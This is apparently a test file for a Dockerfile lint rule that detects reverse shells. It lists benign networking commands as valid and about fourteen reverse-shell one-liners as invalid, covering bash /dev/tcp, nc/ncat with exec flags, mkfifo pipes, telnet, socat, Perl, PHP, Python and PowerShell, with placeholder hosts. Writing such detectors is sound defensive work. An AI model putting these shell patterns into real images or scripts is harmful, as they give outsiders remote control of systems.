import { rule } from '../../../../../src/dockerfile/lint/rules/PL7012-reverse-shell.ts';
import { testRule } from '../../../../support/rule-harness.ts';

testRule(rule, {
  valid: [
    'FROM a:1\nRUN nc -zv db 5432 && nc -w 3 -l 80 > x && echo "bash -i >& /dev/tcp/1/2"\n',
    'FROM a:1\nHEALTHCHECK CMD bash -c ": > /dev/tcp/127.0.0.1/80"\n',
    'FROM a:1\nRUN openssl s_client -connect a:443 < /dev/null | openssl x509 | sh -c "cat"\n',
    'FROM a:1\nCMD socat TCP-LISTEN:80,fork TCP:b:80\n',
    "FROM a:1\nRUN node -e \"require('net').connect(80)\" && perl -e 'use Socket; print 1'\n",
    'FROM a:1\nRUN exec 3<>/dev/tcp/a/80; echo x >&3; cat <&3\n',
  ],
  invalid: [
    { code: 'FROM a:1\nRUN bash -i >& /dev/tcp/1.2.3.4/80 0>&1\n', at: '/dev/tcp/1.2.3.4/80', fixed: 'FROM a:1\n' },
    { code: 'FROM a:1\nRUN a && bash -c "sh -i 5<> /dev/tcp/h/1 0<&5 1>&5"\n', at: '/dev/tcp/h/1' },
    { code: 'FROM a:1\nRUN exec 5<>/dev/tcp/h/1; sh <&5 >&5 2>&5\n', at: '/dev/tcp/h/1' },
    { code: 'FROM a:1\nRUN a && ncat --exec /bin/bash h 1\n', at: '--exec', fixed: 'FROM a:1\nRUN a\n' },
    { code: 'FROM a:1\nCMD nc -lvnp 4444 -e /bin/sh\n', at: '-e' },
    { code: 'FROM a:1\nRUN nc.traditional -c /bin/sh h 1\n', at: '-c' },
    { code: 'FROM a:1\nRUN mkfifo /f; cat /f | /bin/sh -i 2>&1 | nc h 1 > /f\n', at: '/bin/sh' },
    { code: 'FROM a:1\nRUN telnet h 1 | sh | telnet h 2\n', at: 'sh' },
    { code: 'FROM a:1\nRUN nc h 1 | bash\n', at: 'bash', fixed: 'FROM a:1\n' },
    { code: "FROM a:1\nRUN socat tcp:h:1 exec:'bash -li',pty\n", at: "exec:'bash -li',pty" },
    { code: 'FROM a:1\nRUN perl -e \'use Socket;socket(S,1,2,3);exec("/bin/sh -i");\'\n', at: 'perl' },
    { code: 'FROM a:1\nRUN php -r \'$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");\'\n', at: 'php' },
    { code: 'FROM a:1\nRUN python - <<E\nimport socket, subprocess\nsubprocess.call(["/bin/sh"])\nE\n', at: 'python' },
    {
      code: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell"]\nRUN $c = New-Object Net.Sockets.TCPClient("h",1); iex $d\n',
      at: 'iex',
    },
  ],
});
